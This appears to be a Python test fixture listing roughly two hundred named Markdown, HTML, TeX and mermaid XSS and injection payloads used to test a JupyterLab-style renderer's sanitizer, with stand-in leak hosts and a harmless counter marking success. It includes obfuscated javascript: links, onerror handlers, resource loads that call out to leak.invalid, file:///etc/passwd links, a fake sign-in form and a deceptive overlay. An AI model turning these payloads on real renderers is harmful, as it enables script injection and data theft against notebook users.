"""Markdown that does harm in a trusted notebook, or once came close.

An effect can be seen: a script adds one to `window.__pwned`, a request goes to `http://127.0.0.1:9/leak-<name>`
or `https://leak.invalid/<name>`.
"""

from __future__ import annotations

import json
from pathlib import Path

# No pipe in it, which would part a table cell.
HIT = "window.__pwned=(window.__pwned??0)+1"
TOP = "top.__pwned=(top.__pwned??0)+1"


def leak(name: str) -> str:
    return f"http://127.0.0.1:9/leak-{name}"


def far(name: str) -> str:
    return f"https://leak.invalid/{name}"


# In quotes, for CommonMark takes no bare value with an equals sign.
IMG = f'<img src=x onerror="{HIT}">'

PAYLOADS: dict[str, str] = {
    # HTML that runs a script
    "img-onerror": f'<img src=x onerror="{HIT}">',
    "img-onerror-inline": f"some words {IMG} more words",
    "img-unclosed": f'<img src=x onerror="{HIT}"//',
    "img-slashes": f'<img/src="x"/onerror="{HIT}">',
    "img-newlines": f'<img\nsrc=x\nonerror="{HIT}"\n>',
    "img-upper": f'<IMG SRC=x ONERROR="{HIT}">',
    "img-in-top": f'<img src=x onerror="{TOP}">',
    "script": f"<script>{HIT}</script>",
    "script-block": f"<script>\n\n{HIT}\n\n</script>",
    "script-remote": f'<script src="{leak("script-remote")}"></script>',
    "svg-onload": f'<svg onload="{HIT}"></svg>',
    "svg-script": f"<svg><script>{HIT}</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s>',
    "svg-use": f'<svg><use href="{leak("svg-use")}#x"/></svg>',
    "svg-image": f'<svg><image href="{leak("svg-image")}"/></svg>',
    "math-href": f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</maction></math>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{TOP}</script>"></iframe>',
    "iframe-src": f'<iframe src="{leak("iframe-src")}"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{TOP}"></iframe>',
    "details-toggle": f'<details open ontoggle="{HIT}">x</details>',
    "body-onload": f'<body onload="{HIT}">',
    "input-autofocus": f'<input autofocus onfocus="{HIT}">',
    "video-error": f'<video><source onerror="{HIT}"></video>',
    "video-poster": f'<video poster="{leak("video-poster")}"></video>',
    "audio-src": f'<audio src="{leak("audio-src")}" autoplay></audio>',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "select-noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "template-shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "custom-element": f'<x-y onclick="{HIT}" tabindex=1 onfocus="{HIT}" autofocus>x</x-y>',
    "style-animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{HIT}">x</b>',
    # HTML that fetches, moves or covers the page
    "style-import": f"<style>@import url({leak('style-import')});</style>",
    "style-background": f'<div style="background:url({leak("style-background")})">x</div>',
    "style-overlay": '<div style="position:fixed;inset:0;background:white">Your session has ended</div>',
    "link-rel": f'<link rel="stylesheet" href="{leak("link-rel")}">',
    "link-prefetch": f'<link rel="prefetch" href="{leak("link-prefetch")}">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={leak("meta-refresh")}">',
    "base": f'<base href="{far("base")}/">',
    "form": f'<form action="{leak("form")}"><input name=a autofocus><button>Sign in</button></form>',
    "object": f'<object data="{leak("object")}"></object>',
    "embed": f'<embed src="{leak("embed")}">',
    "picture-srcset": f'<picture><source srcset="{leak("picture-srcset")}"><img></picture>',
    "table-background": f'<table background="{leak("table-background")}"><tr><td>x</table>',
    "a-ping": f'<a href="#" ping="{leak("a-ping")}">x</a>',
    "portal": f'<portal src="{leak("portal")}"></portal>',
    # commands of JupyterLab
    "commandlinker": (
        '<button data-commandlinker-command="docmanager:open" '
        'data-commandlinker-args=\'{"path":"x"}\'>Open</button>'
    ),
    "commandlinker-div": '<div data-commandlinker-command="apputils:reset">x</div>',
    "commandlinker-tex": r'$\data{commandlinker-command="x"}{y}$',
    # links that run
    "javascript-inline": f"[x](javascript:{HIT})",
    "javascript-angle": f"[x](<javascript:{HIT}>)",
    "javascript-upper": f"[x](JaVaScRiPt:{HIT})",
    "javascript-entity": f"[x](javascript&colon;{HIT})",
    "javascript-entity-number": f"[x](&#106;&#x61;vascript:{HIT})",
    "javascript-tab-entity": f"[x](java&Tab;script:{HIT})",
    "javascript-newline-entity": f"[x](java&NewLine;script:{HIT})",
    "javascript-control": f"[x](\x01javascript:{HIT})",
    "javascript-control-entity": f"[x](&#1;javascript:{HIT})",
    "javascript-tab": f"[x](<java\tscript:{HIT}>)",
    "javascript-escape": f"[x](javascript\\:{HIT})",
    "javascript-percent": f"[x](javascript%3A{HIT})",
    "javascript-reference": f"[x][r]\n\n[r]: javascript:{HIT}",
    "javascript-shortcut": f"[r]\n\n[r]: <javascript:{HIT}> 'title'",
    "javascript-autolink": f"<javascript:{HIT}>",
    "javascript-image": f"![x](javascript:{HIT})",
    "javascript-html": f'<a href="javascript:{HIT}">x</a>',
    "javascript-html-entity": f'<a href="&#106;avascript:{HIT}">x</a>',
    "vbscript": f"[x](vbscript:{HIT})",
    "data-html": f"[x](data:text/html,<script>{HIT}</script>)",
    "data-html-base64": "[x](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
    "data-svg-image": f"![x](data:image/svg+xml,<svg/onload={HIT}>)",
    "file-link": "[x](file:///etc/passwd)",
    "relative-link": "[x](/api/shutdown) [y](../tree?token=1) [z](//leak.invalid/z)",
    "backslash-link": "[x](https:\\\\leak.invalid/x) [y](/\\leak.invalid/y)",
    "user-link": "[x](https://bank.example@leak.invalid/x)",
    "host-with-dollar": 'www.x$y".onmouseover="z".$x',
    # images from the network
    "image-inline": f"![x]({leak('image-inline')})",
    "image-angle": f"![x](<{leak('image-angle')}>)",
    "image-title": f'![x]({leak("image-title")} "a title")',
    "image-reference": f"![x][r]\n\n[r]: {leak('image-reference')}",
    "image-collapsed": f"![r][]\n\n[r]: {leak('image-collapsed')} 'title'",
    "image-shortcut": f"![r]\n\n[r]: {leak('image-shortcut')}",
    "image-html": f'<img src="{leak("image-html")}">',
    "image-html-inline": f'words <img src="{leak("image-html-inline")}"> words',
    "image-in-link": f"[![x]({leak('image-in-link')})](https://example.org)",
    "image-in-table": f"| a |\n| - |\n| ![x]({leak('image-in-table')}) |",
    "image-in-heading": f"# ![x]({leak('image-in-heading')})",
    "image-in-image": f"![a ![x]({leak('image-in-image')}) b]({far('image-in-image')})",
    "image-in-task": f"- [ ] ![x]({leak('image-in-task')})",
    "image-relative-protocol": "![x](//leak.invalid/image-relative-protocol)",
    "image-bang-before-link": f"\\![x]({leak('image-bang-before-link')})",
    "image-bang-entity": f"&#33;[x]({leak('image-bang-entity')})",
    "image-bang-emphasis": f"Hi**!**[x]({leak('image-bang-emphasis')}) hi!*[x]({leak('bang')})*",
    "image-local-delete": "![x](/api/contents/x?delete) ![y](../logout)",
    # formulas
    "tex-href": rf"$\href{{javascript:{HIT}}}{{x}}$",
    "tex-href-display": rf"$$\href{{javascript:{HIT}}}{{x}}$$",
    "tex-url": rf"\(\url{{javascript:{HIT}}}\)",
    "tex-unicode": r"$\unicode[x;position:fixed;inset:0;background:red]{65}$",
    "tex-unicode-url": rf"\[\unicode[x;background:url({leak('tex-unicode-url')})]{{65}}\]",
    "tex-style": rf"$\style{{background:url({leak('tex-style')})}}{{x}}$",
    "tex-class": r"$\class{jp-Dialog}{x}$",
    "tex-id": r"$\cssId{main}{x}$",
    "tex-require": r"$\require{html}\data{x=y}{z}$",
    "tex-def": rf"$\def\x{{\href{{javascript:{HIT}}}}}\x{{y}}$",
    "tex-let": rf"$\let\x\href\x{{javascript:{HIT}}}{{y}}$",
    "tex-newcommand": rf"$\newcommand\x[1]{{\href{{javascript:{HIT}}}{{#1}}}}\x{{y}}$",
    "tex-environment": r"\begin{align}"
    + "\n"
    + rf"\href{{javascript:{HIT}}}{{x}} \label{{main}}"
    + "\n"
    + r"\end{align}",
    "tex-comment": f"$x % $ {IMG}\n$",
    "tex-color": rf"$\color{{red;background:url({leak('tex-color')})}} x$",
    "tex-bbox": rf"$\bbox[background:url({leak('tex-bbox')})]{{x}}$",
    "tex-mml": rf'$\mmlToken{{mi}}[style="background:url({leak("tex-mml")})"]{{x}}$',
    "tex-label": r"\begin{equation}\label{jupyterapp}x\end{equation} \ref{jupyterapp}",
    "tex-html": f"$x{IMG}$",
    "tex-in-html": f"$x$ </span>{IMG} $y$",
    # JupyterLab's formula step against marked
    "dollar-before-code": f"$x$`a` {IMG} $`b`",
    "math-in-url": f'[x](http://a/$" onmouseover="{HIT}" $)',
    "math-in-title": f'[x](http://a "$a" onmouseover="{HIT}" b$")',
    "math-in-alt": f'![$a" onerror="{HIT}" b$](x)',
    "math-in-info": f'```py$"onmouseover="{HIT}"$\nx\n```',
    "math-in-info-highlight": f'```python"$"onmouseover="{HIT}"\nx\n```',
    "math-in-bare-url": f'www.x$"onmouseover="{HIT}"$',
    "math-in-bare-url-scheme": f'https://x.y/$"onmouseover="{HIT}"$',
    "math-in-mail": f'a@x.y$"onmouseover="{HIT}"$.com',
    "math-in-autolink": f'<https://x.y/$"onmouseover="{HIT}"$>',
    "placeholder-entity": f'$" onmouseover="{HIT}" $ [x](http://a/&#64;@0@@)',
    "placeholder-escape": f'$" onmouseover="{HIT}" $ [x](http://a/\\@@0@@)',
    "placeholder-link": f'$" onmouseover="{HIT}" $ [x](http://a/@@0@@)',
    "placeholder-far": "\\@@99999@@ &#64;@99999@@ @@99999@@",
    "placeholder-autolink": "<https://x.y/&#64;@0@@> $a$",
    "placeholder-code": f"```py\n@@0@@ @@7@@\n```\n$<b>{HIT}$",
    "dollar-in-nested-fence": f"- ```\n  $\n  ```\n  $\n  ```\n  {IMG}\n  ```\n",
    "dollar-in-quoted-fence": f"> ```\n> $\n> ```\n> $\n> ```\n> {IMG}\n> ```",
    "dollar-in-indented-fence": f"   ```\n   $\n   ```\n   $\n   ```\n   {IMG}\n   ```",
    "dollar-in-indented-code": f"    $\n\nx\n\n    $ {IMG}",
    "code-over-lines": f"`a $\nb` c $\n`{IMG}`",
    "code-stray-backticks": f"``a ` $ ``` {IMG} ` $ b``",
    "code-backslash-backtick": f"\\`$\\` `{IMG}` $`",
    "strike-over-code": f"~~x `~~{IMG}` ~~",
    "strike-around-code": f"~~x `~~{IMG}~~` ~~",
    "strike-single": f"~x `~{IMG}~` ~",
    "tex-opener-in-fence": f"```\n\\\\(\n```\n\\\\)\n```\n{IMG}\n```",
    "tex-begin-in-fence": f"```tex\n\\begin{{a}}\n```\n\\end{{a}}\n```\n{IMG}\n```",
    "tex-bracket-in-fence": f"```\n\\\\[\n```\n\\\\]\n```\n{IMG}\n```",
    "literal-dollars": "\\$a\\$ and &#36;b&#36; and \\\\(c\\\\) and \\\\begin{x}d\\\\end{x} and \\\\ref{x}",
    "literal-dollars-harm": rf"\$\href{{javascript:{HIT}}}{{x}}\$ &#36;\unicode[x;top:0]{{65}}&#36;",
    "literal-paren": rf"\\\(\href{{javascript:{HIT}}}{{x}}\\\)",
    "literal-brackets-entity": rf"&#92;(\href{{javascript:{HIT}}}{{x}}&#92;)",
    "backslash-before-formula": rf"\\$a$ \href{{javascript:{HIT}}}{{x}} $b$",
    "backslash-entity-formula": r"&#92;$a$ \unicode[x;top:0]{65} $b$",
    "bang-before-link": f"wow![x]({leak('bang-before-link')})",
    "protocol-in-formula": f'$//x.y/"onmouseover={HIT}$ [a]($//x$)',
    "info-long": "```" + "x" * 500 + '"><b>\ncode\n```',
    "info-html": f"```<img/src=x/onerror={HIT}>\nx\n```",
    "heading-clobber": "# jupyterapp",
    "heading-clobber-words": "## jp main dock panel\n\nmain\n====\n\n### `defaultView`",
    "heading-html": f"# <b id=x>{IMG}",
    "unbalanced-braces": rf"$a{{$ {IMG} $}}$",
    "braces-two-counts": rf"$\\{{$ {IMG} $\\}}$",
    "braces-reversed": f"$}}{{$ `$` {IMG} `$`",
    "adjacent-formulas": f"$a$$b$ {IMG} $$",
    # HTML where Markdown hides it
    "html-in-list": f"- a\n- {IMG}\n  1. {IMG}",
    "html-in-quote": f"> {IMG}\n> > {IMG}",
    "html-in-table": f"| {IMG} | b |\n| --- | --- |\n| `|{IMG} | {IMG} |",
    "html-in-link": f"[{IMG}](http://x) [a](<http://x> '{IMG}')",
    "html-in-alt": f"![{IMG}](http://127.0.0.1:9/leak-html-in-alt)",
    "html-in-reference": f"[x]\n\n[x]: <http://a> '{IMG}'",
    "html-in-heading": f"{IMG}\n===",
    "html-half-fence": f"```\ncode\n``\n{IMG}",
    "html-after-fence": f"```\ncode\n```\n{IMG}",
    "html-fence-in-list": f"- ```\n  code\n{IMG}",
    "html-fence-mixed": f"~~~\n```\n~~~\n{IMG}\n```",
    "html-fence-tab": f"-\t```\n\tcode\n\n{IMG}",
    "html-tilde-info": f"~~~ `x` {IMG}\nx\n~~~",
    "html-comment": f"<!-- a --> {IMG} <!-- {IMG} -->",
    "html-comment-odd": f"<!--> {IMG} --> <!---> {IMG} -->",
    "html-cdata": f"<![CDATA[ {IMG} ]]> {IMG}",
    "html-instruction": f"<?php {IMG} ?> {IMG}",
    "html-declaration": f"<!DOCTYPE x {IMG}> {IMG}",
    "html-entity": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "html-escaped": f"\\{IMG} \\\\{IMG}",
    "html-nested-less": f"<<b>{IMG}</b>> <{IMG}",
    "html-unclosed": '<img src="x" onerror="',
    "html-textarea": f"<textarea></textarea>{IMG}<title></title>{IMG}",
    "html-in-code-tag": f"<code>$</code>{IMG}<pre>`{IMG}`</pre>",
    "html-in-emphasis": f"**<b>{IMG}** *{IMG}* ***{IMG}***",
    # mermaid
    "mermaid-image": f'```mermaid\nflowchart TD\n A["<img src={leak("mermaid-image")}>"]\n```',
    "mermaid-shape": f'```mermaid\nflowchart TD\n A@{{ img: "{leak("mermaid-shape")}", label: "x" }}\n```',
    "mermaid-class": f'```mermaid\nclassDiagram\n class A["<img src={leak("mermaid-class")}>"]\n```',
    "mermaid-css": (
        f'```mermaid\n%%{{init: {{"themeCSS": "* {{background:url({leak("mermaid-css")})}}"}}}}%%\n'
        "graph TD\n a-->b\n```"
    ),
    "mermaid-click": f'```mermaid\ngraph TD\n a-->b\n click a "javascript:{HIT}"\n```',
    "mermaid-in-list": f"- ```mermaid\n  graph TD\n   a['<img src={leak('mermaid-in-list')}>']\n  ```",
    "mermaid-tilde": f'~~~ mermaid\ngraph TD\n a["<img src={leak("mermaid-tilde")}>"]\n~~~',
    "mermaid-entity": f'```mer&#109;aid\ngraph TD\n a["<img src={leak("mermaid-entity")}>"]\n```',
    "mermaid-words": f'```mermaid live\nmindmap\n a["<img src={leak("mermaid-words")}>"]\n```',
    # line ends, blanks, directions, terminals
    "line-separator": f"```\n$\u2028```\n{IMG} $\n```",
    "paragraph-separator": f"a\u2029{IMG}\u2029```\u2028{IMG}",
    "next-line": f"> a\x85{IMG}\x85```\x85{IMG}",
    "form-feed": f"```\x0c{IMG}\x0c```\x0b{IMG}",
    "carriage-return": f"```\r$\r```\r{IMG}\r$\r",
    "nul": f'<im\x00g src=x onerror="{HIT}"> \x00{IMG}',
    "bidi": f"\u202e[x](http://a)\u2066 {IMG}",
    "zero-width": f"<\u200bimg src=x onerror='{HIT}'> `\u200b`{IMG}`\u200b`",
    "byte-order-mark": f"\ufeff# x\n\ufeff```\n{IMG}\n\ufeff```",
    "surrogate": f"\ud800 {IMG} \udfff [x](http://a/\ud800)",
    "terminal-escape": f"\x1b]8;;javascript:{HIT}\x07x\x1b]8;;\x07 \x1b[2J<\x1b[0mimg src=x onerror='{HIT}'>",
    "no-break-space": f"\u00a0\u00a0```\n{IMG}\n\u00a0```\n\u3000# x",
    "front-matter": f"---\nx: {IMG}\n---\n",
}

SHARED = Path(__file__).with_name("payloads.json")
"""The same for the browser code's tests; `python tests/payloads.py` writes it."""


def as_json() -> str:
    """Escaped to ASCII, for lone surrogates have no UTF-8."""
    return json.dumps(PAYLOADS, indent=0) + "\n"


if __name__ == "__main__":
    SHARED.write_text(as_json(), "ascii")
